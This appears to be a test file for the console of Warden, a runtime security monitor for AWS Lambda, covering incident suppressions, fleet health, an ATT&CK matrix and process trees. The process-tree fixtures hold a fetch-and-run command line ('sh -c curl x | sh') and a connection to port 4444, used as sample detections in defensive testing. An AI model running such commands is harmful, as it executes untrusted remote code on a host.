// The pure parts of the console's fleet views: which incidents a suppression covers and what a
// suppression must say; fleet health from Warden's reports about itself; the ATT&CK matrix;
// an incident's process tree; promoting findings into a policy.
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { test } from 'node:test';

const lib = createRequire(import.meta.url)('../../dist/lib.cjs');
const DAY = 86_400_000;
const NOW = Date.UTC(2026, 11, 3, 12);
const ARN = 'arn:aws:lambda:eu-west-1:123456789012:function:orders-api';

const incident = (over = {}) => ({
  id: 'inc-1',
  functionArn: ARN,
  functionName: 'orders-api',
  title: 't',
  severityId: 4,
  firstSeen: NOW,
  lastSeen: NOW,
  findings: 2,
  invocations: 1,
  rules: ['warden.files.read', 'warden.rule.proc-environ-read'],
  packages: ['ejs'],
  techniques: [],
  state: 'new',
  reason: null,
  assignee: null,
  updated: NOW,
  ...over,
});

const suppression = (over = {}) => {
  const r = lib.readSuppression(
    {
      functions: 'orders-*',
      rules: 'warden.{files.read,rule.proc-environ-read}',
      owner: 'lee',
      reason: 'known',
      days: '7',
      ...over,
    },
    NOW,
  );
  assert.ok(r.ok, JSON.stringify(r));
  return r.suppression;
};

test('the day counts: one per day, function, rule, package and severity, and per tactic and technique; in key order', () => {
  const tally = new lib.DayTally();
  const facts = (over) => ({
    uid: 'u',
    time: NOW,
    functionArn: ARN,
    functionName: 'orders-api',
    ruleId: 'warden.process.spawn',
    title: 't',
    severityId: 4,
    disposition: 'Blocked',
    package: 'ejs',
    target: '/bin/sh',
    techniques: ['T1059.004'],
    attacks: [{ tactic: 'TA0002', technique: 'T1059.004', name: 'Unix Shell' }],
    ...over,
  });
  tally.add(facts({}));
  tally.add(facts({ time: NOW + 5 }));
  tally.add(facts({ time: NOW - 3, severityId: 5 }));
  tally.add(facts({ time: NOW - DAY, attacks: [] }));
  tally.add(
    facts({
      package: 'lodash',
      attacks: [{ tactic: 'TA0006', technique: 'T1552', name: 'Unsecured Credentials' }],
    }),
  );
  const today = Math.floor(NOW / DAY) * DAY;
  assert.deepEqual(
    tally.findings.list().map((c) => [c.day, c.package, c.severityId, c.findings, c.lastSeen]),
    [
      [today - DAY, 'ejs', 4, 1, NOW - DAY],
      [today, 'ejs', 4, 2, NOW + 5],
      [today, 'ejs', 5, 1, NOW - 3],
      [today, 'lodash', 4, 1, NOW],
    ],
  );
  assert.deepEqual(
    tally.attacks.list().map((a) => [a.day, a.tactic, a.technique, a.findings, a.lastSeen]),
    [
      [today, 'TA0002', 'T1059.004', 3, NOW + 5],
      [today, 'TA0006', 'T1552', 1, NOW],
    ],
  );
});

test('a suppression covers an incident only when every rule matches, its function matches, and its package is the one named', () => {
  assert.ok(lib.covers(suppression(), incident()));
  // One rule outside the mute: the incident is more than what was muted.
  assert.ok(!lib.covers(suppression(), incident({ rules: ['warden.files.read', 'warden.process.spawn'] })));
  assert.ok(
    !lib.covers(
      suppression(),
      incident({ functionName: 'billing', functionArn: ARN.replace('orders-api', 'billing') }),
    ),
  );
  // By ARN too.
  assert.ok(lib.covers(suppression({ functions: ARN }), incident()));
  assert.ok(lib.covers(suppression({ package: 'ejs' }), incident()));
  assert.ok(!lib.covers(suppression({ package: 'ejs' }), incident({ packages: ['ejs', '<function>'] })));
  // Active only between its creation and its expiry.
  const s = suppression({ days: '1' });
  assert.equal(lib.suppressionFor(incident(), [s], NOW + DAY / 2)?.id, s.id);
  assert.equal(lib.suppressionFor(incident(), [s], NOW + DAY + 1), undefined);
});

test('a suppression must name an owner, a reason and an end within the limit, and cannot mute everything', () => {
  const refused = (given) => {
    const r = lib.readSuppression(given, NOW);
    assert.equal(r.ok, false, JSON.stringify(given));
    return r.field;
  };
  const base = { functions: 'a', rules: 'b', owner: 'lee', reason: 'known', days: '3' };
  assert.equal(refused({ ...base, owner: '  ' }), 'owner');
  assert.equal(refused({ ...base, reason: '' }), 'reason');
  assert.equal(refused({ ...base, days: undefined }), 'expires');
  assert.equal(refused({ ...base, days: String(lib.MAX_SUPPRESSION_DAYS + 1) }), 'expires');
  assert.equal(refused({ ...base, days: undefined, expires: '2026-01-01' }), 'expires');
  assert.equal(refused({ ...base, functions: '*', rules: '*' }), 'rules');
  assert.equal(refused({ ...base, extra: 1 }), 'extra');
  const ok = lib.readSuppression({ ...base, days: undefined, expires: '2026-12-10T00:00:00Z' }, NOW);
  assert.ok(ok.ok);
  assert.equal(ok.suppression.expires, Date.UTC(2026, 11, 10));
  assert.match(ok.suppression.id, /^sup-[0-9a-f]{16}$/);
});

const healthFinding = (ruleId, fn, time, extra = {}) => ({
  functionArn: `arn:aws:lambda:us-east-1:1:function:${fn}`,
  functionName: fn,
  ruleId,
  time,
  finding: { count: 1, finding_info: { desc: '' }, ...extra },
});

test('fleet health: each kind counted per function, dropped findings by the number each report gives; trouble first', () => {
  const fns = [
    {
      arn: 'arn:aws:lambda:us-east-1:1:function:quiet',
      name: 'quiet',
      findings: 3,
      incidents: 1,
      open: 1,
      lastSeen: NOW,
    },
    {
      arn: 'arn:aws:lambda:us-east-1:1:function:loud',
      name: 'loud',
      findings: 9,
      incidents: 2,
      open: 0,
      lastSeen: NOW - 5,
    },
  ];
  const rows = lib.fleetHealth(fns, [
    healthFinding('warden.sensor.extension-lost', 'loud', NOW - 10),
    healthFinding('warden.sensor.extension-unresponsive', 'loud', NOW - 9),
    healthFinding('warden.extension.sensor-silent', 'loud', NOW - 8),
    healthFinding('warden.extension.findings-dropped', 'loud', NOW - 7, { count: 40 }),
    healthFinding('warden.sensor.channel-dropped', 'loud', NOW - 6, {
      finding_info: { desc: '12 finding line(s) were dropped from the channel to the extension' },
    }),
    healthFinding('warden.sensor.fault', 'gone', NOW - 100),
  ]);
  const loud = rows.find((r) => r.name === 'loud');
  assert.deepEqual(loud.counts, { extensionLost: 2, sensorSilent: 1, dropped: 52, faults: 0 });
  assert.equal(loud.healthy, false);
  assert.equal(rows.find((r) => r.name === 'quiet').healthy, true);
  // A function heard from only through a fault is listed too.
  assert.equal(rows.find((r) => r.name === 'gone').counts.faults, 1);
  assert.deepEqual(
    rows.map((r) => r.name),
    ['loud', 'gone', 'quiet'],
  );
  for (const rule of lib.HEALTH_RULES) assert.match(rule, /^warden\.(sensor|extension)\./);
});

test('the ATT&CK matrix: every tactic in order, seen techniques first, covered ones greyed, an unknown tactic kept', () => {
  const covered = lib.coveredTechniques();
  assert.ok(covered.some((c) => c.tactic === 'TA0002' && c.technique === 'T1059.004'));
  const matrix = lib.attackMatrix(
    [
      { tactic: 'TA0002', technique: 'T1059.004', name: 'Unix Shell', findings: 3, lastSeen: NOW },
      { tactic: 'TA0002', technique: 'T1059.007', name: 'JavaScript', findings: 9, lastSeen: NOW },
      { tactic: 'TA9999', technique: 'T0000', name: 'Custom', findings: 1, lastSeen: NOW },
    ],
    covered,
  );
  assert.deepEqual(
    matrix.slice(0, lib.TACTIC_ORDER.length).map((c) => c.tactic),
    [...lib.TACTIC_ORDER],
  );
  const execution = matrix.find((c) => c.tactic === 'TA0002');
  assert.deepEqual(
    execution.cells.slice(0, 2).map((c) => c.technique),
    ['T1059.007', 'T1059.004'],
  );
  assert.ok(execution.cells.slice(2).every((c) => c.findings === 0));
  assert.equal(new Set(execution.cells.map((c) => c.technique)).size, execution.cells.length);
  assert.equal(matrix.at(-1).tactic, 'TA9999');
});

const spawnFinding = (
  uid,
  time,
  { pid, parent, cmd, rule = 'warden.process.spawn', actor = 100, request = 'r1', disposition = 'Detected' },
) => ({
  time,
  disposition,
  metadata: { uid, correlation_uid: request },
  finding_info: { analytic: { uid: rule } },
  evidences: [
    {
      process: {
        cmd_line: cmd,
        ...(pid ? { pid } : {}),
        ...(parent ? { parent_process: { pid: parent } } : {}),
      },
    },
  ],
  unmapped: { surface: 'process', op: 'spawn', pid: actor },
});

test("an incident's process tree: the runtime at the root, children under their parents, one start's findings one node", () => {
  const tree = lib.processTree([
    spawnFinding('a', 1000, { parent: 100, cmd: 'sh -c curl x | sh' }),
    spawnFinding('b', 1002, {
      parent: 100,
      cmd: 'sh -c curl x | sh',
      rule: 'warden.detect.command-injection',
    }),
    spawnFinding('c', 1100, { pid: 201, parent: 200, cmd: 'curl x' }),
    spawnFinding('d', 1050, { pid: 200, parent: 100, cmd: 'sh' }),
    {
      time: 1200,
      metadata: { uid: 'e' },
      finding_info: { analytic: { uid: 'warden.network.connect' } },
      evidences: [{ dst_endpoint: { ip: '127.0.0.9', port: 4444 } }],
      unmapped: { surface: 'network', op: 'connect', pid: 201 },
    },
    // The same command again, a second later: another start.
    spawnFinding('f', 3000, { parent: 100, cmd: 'sh -c curl x | sh' }),
  ]);
  assert.equal(tree.length, 1);
  const root = tree[0];
  assert.match(root.label, /runtime/);
  assert.equal(root.children.length, 3);
  const first = root.children.find((c) => c.rules.length === 2);
  assert.deepEqual(first.rules, ['warden.process.spawn', 'warden.detect.command-injection']);
  const sh = root.children.find((c) => c.pid === 200);
  assert.equal(sh.children[0].pid, 201);
  assert.deepEqual(
    sh.children[0].actions.map((a) => a.what),
    ['connect 127.0.0.9:4444'],
  );
});

test('a loop in what findings claim about parents loses no process', () => {
  const tree = lib.processTree([
    spawnFinding('a', 1, { pid: 2, parent: 3, cmd: 'a' }),
    spawnFinding('b', 2, { pid: 3, parent: 2, cmd: 'b' }),
  ]);
  const all = [];
  const walk = (n) => {
    all.push(n.pid);
    n.children.forEach(walk);
  };
  tree.forEach(walk);
  assert.deepEqual(all.sort(), [2, 3]);
});

test('promoting findings into a policy: refuses an invalid current policy and findings with no behaviour', () => {
  const bad = lib.promoteFindings({ name: 'p.yaml', text: 'version: 1\nmode: sometimes\n' }, [], 'x.jsonl');
  assert.equal(bad.ok, false);
  assert.match(bad.error, /p\.yaml:2.*mode/);
  const none = lib.promoteFindings(
    { name: 'p.yaml', text: 'version: 1\nmode: enforce\n' },
    [{ class_uid: 1 }],
    'x.jsonl',
  );
  assert.equal(none.ok, false);
  assert.match(none.error, /none of these findings/);
});
